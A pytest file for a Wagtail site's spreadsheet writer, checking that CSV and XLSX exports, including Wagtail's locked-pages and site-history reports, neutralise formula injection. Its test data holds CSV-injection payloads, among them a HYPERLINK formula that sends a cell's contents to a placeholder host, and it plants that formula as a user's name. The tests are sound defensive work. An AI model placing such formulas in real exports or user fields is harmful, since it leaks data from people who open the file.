"""The one spreadsheet writer (livinglab.base.spreadsheets) and Wagtail's own
report exports going through it (issue 12, finding 7; issue 15, failure 5)."""

import csv
import datetime
import io
from decimal import Decimal

from django.utils import timezone

from wagtail.models import Page

import pytest
from allauth.mfa.totp.internal.auth import TOTP
from openpyxl import load_workbook

from livinglab.base import spreadsheets

SECRET = "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP"
FORMULAS = [
    '=HYPERLINK("https://contoh.invalid/?d="&A2,"Klik")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
DAY = datetime.date(2026, 3, 1)
MOMENT = datetime.datetime(2026, 3, 1, 8, 30, tzinfo=datetime.UTC)


def test_neutralise_every_formula_prefix():
    for formula in FORMULAS:
        assert spreadsheets.neutralise(formula) == "'" + formula
    assert spreadsheets.neutralise("Kabupaten Garut") == "Kabupaten Garut"
    assert spreadsheets.neutralise("a=b") == "a=b"


def test_csv_has_a_bom_neutralised_text_and_plain_numbers_and_dates():
    header = ["teks", "bilangan", "desimal", "tanggal", "benar", "kosong"]
    rows = [[f, -5, Decimal("-1.25"), DAY, True, None] for f in FORMULAS]
    body = "".join(spreadsheets.csv_lines(header, rows))
    assert body.startswith("\ufeff")
    parsed = list(csv.reader(io.StringIO(body[1:], newline="")))
    assert parsed[0] == header
    for formula, row in zip(FORMULAS, parsed[1:], strict=True):
        assert row == ["'" + formula, "-5", "-1.25", "2026-03-01", "true", ""]


def test_a_formula_header_is_neutralised_too():
    body = "".join(spreadsheets.csv_lines(["=1+1"], []))
    assert body == "\ufeff'=1+1\r\n"


def read_book(data):
    return load_workbook(io.BytesIO(data))


def test_xlsx_keeps_numbers_and_dates_real_and_text_never_a_formula():
    rows = [[f, -5, Decimal("2.75"), DAY, MOMENT, False] for f in FORMULAS]
    data = spreadsheets.xlsx_bytes(
        [
            spreadsheets.Sheet(
                "Uji", ["Teks", "Bilangan", "Indeks", "Tanggal", "Waktu", "Ya"], rows
            )
        ]
    )
    sheet = read_book(data)["Uji"]
    for row_number, formula in enumerate(FORMULAS, start=2):
        text = sheet.cell(row_number, 1)
        assert text.data_type == "s"
        # (A carriage return comes back as a line feed when openpyxl reads
        # without lxml, as itself with lxml: compare the text, not that.)
        assert text.value.replace("\r", "\n") == "'" + formula.replace("\r", "\n")
        assert sheet.cell(row_number, 2).value == -5
        assert sheet.cell(row_number, 2).data_type == "n"
        assert sheet.cell(row_number, 3).value == 2.75
        assert sheet.cell(row_number, 4).value == datetime.datetime(2026, 3, 1)
        assert sheet.cell(row_number, 4).is_date
        assert sheet.cell(row_number, 5).value == datetime.datetime(2026, 3, 1, 8, 30)
        assert sheet.cell(row_number, 6).value is False


def test_xlsx_header_is_bold_frozen_filtered_and_columns_are_sized():
    rows = [["Kabupaten Garut", 1], ["Kota Bandung", 2], ["x" * 200, 3]]
    data = spreadsheets.xlsx_bytes(
        [spreadsheets.Sheet("Wilayah", ["Nama", "No"], rows)]
    )
    sheet = read_book(data)["Wilayah"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B4"
    assert sheet.column_dimensions["A"].width == spreadsheets.MAX_WIDTH
    assert sheet.column_dimensions["B"].width == spreadsheets.MIN_WIDTH


def test_xlsx_drops_control_characters_xml_cannot_hold():
    data = spreadsheets.xlsx_bytes([spreadsheets.Sheet("S", ["a"], [["ok\x07"]])])
    assert read_book(data)["S"]["A2"].value == "ok"


# Wagtail's report exports --------------------------------------------------


@pytest.fixture
def admin_client(client, superuser):
    TOTP.activate(superuser, SECRET)
    client.force_login(superuser)
    return client


@pytest.fixture
def locked_by_formula_user(db, django_user_model):
    """Pages locked by a user whose chosen name is a formula (the names people
    type at sign-up reach Wagtail's reports), with formula titles."""
    user = django_user_model.objects.create_user(
        email="penyusup@contoh.test",
        password="x",
        first_name='=HYPERLINK("https://contoh.invalid/?d="&A2,"Klik")',
    )
    pages = list(Page.objects.filter(depth__gt=1).order_by("path")[: len(FORMULAS)])
    for page, formula in zip(pages, FORMULAS, strict=True):
        Page.objects.filter(pk=page.pk).update(
            title=formula, locked=True, locked_by=user, locked_at=timezone.now()
        )
    return user


def test_wagtail_report_csv_is_neutralised(admin_client, locked_by_formula_user):
    response = admin_client.get("/admin/reports/locked/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:], newline="")))
    titles = {row[0] for row in rows[1:]}
    assert {"'" + f for f in FORMULAS} <= titles
    users = {row[-1] for row in rows[1:]}
    assert users == {"'" + locked_by_formula_user.get_full_name()}
    for row in rows[1:]:
        assert not any(v.startswith(spreadsheets.FORMULA_STARTS) for v in row)


def test_wagtail_report_xlsx_is_neutralised_with_real_dates(
    admin_client, locked_by_formula_user
):
    response = admin_client.get("/admin/reports/locked/?export=xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    sheet = read_book(content).worksheets[0]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref
    body = list(sheet.iter_rows(min_row=2))
    titles = {row[0].value for row in body}
    # XML turns a carriage return into a line feed; the quote is there anyway.
    assert titles >= {"'" + f for f in FORMULAS if not f.startswith("\r")}
    assert all(title.startswith("'") for title in titles)
    for row in body:
        assert all(cell.data_type != "f" for cell in row)
        assert row[-1].value.startswith("'=HYPERLINK")
        locked_at = row[-2]
        assert isinstance(locked_at.value, datetime.datetime)


def test_wagtail_site_history_export_is_neutralised(
    admin_client, locked_by_formula_user
):
    from wagtail.log_actions import log

    page = Page.objects.filter(depth__gt=1).first()
    log(page, "wagtail.edit", user=locked_by_formula_user)
    response = admin_client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:], newline="")))
    assert any(row[4] == "'" + locked_by_formula_user.get_full_name() for row in rows)
